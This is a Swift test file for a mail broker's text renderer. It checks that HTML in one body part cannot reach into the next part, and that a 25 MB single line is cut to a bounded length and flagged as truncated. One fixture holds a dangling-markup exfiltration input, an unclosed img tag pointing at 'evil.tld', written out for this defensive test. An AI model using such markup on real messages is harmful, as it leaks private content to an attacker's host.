// Rows C26 and C35 of the catalogue (reliability.md 2.C): reading by way of the broker.

import BrokerProtocol
import MailModel
import MessageFormat
import Synchronization
import Testing

@testable import BrokerCore

@Suite struct ReadingCatalogueTests {
    private func text(_ content: String, _ subtype: String) -> TextRenderer.Text {
        TextRenderer.Text(
            part: BodyPart(section: "1", type: "text", subtype: subtype),
            content: Array(content.utf8)
        )
    }

    @Test("C26: what one part opens does not reach into the next")
    func separateParts() async {
        let parts = [
            text("before <img src=\"http://evil.tld/", "html"), text("the secret", "plain"),
            text("\"> after", "html"),
        ]
        let body = await TextRenderer().body(parts, bytesMax: nil)
        #expect(body.text == "before\n\nthe secret\n\"> after\n")
    }

    @Test("C35: of 25 MB in one line a bounded beginning is shown, and it says that it is cut")
    func oneLongLine() async {
        let content = [UInt8](repeating: 0x61, count: 25_000_000)
        let part = BodyPart(section: "1", type: "text", subtype: "plain")
        let text = TextRenderer.Text(part: part, content: content)
        #expect(text.content.count == CoreLimits.textSourceMax)
        let body = await TextRenderer().body([text], bytesMax: nil)
        #expect(body.truncated)
        #expect(body.text.utf8.count == CoreLimits.textOctetsMax)
    }
}
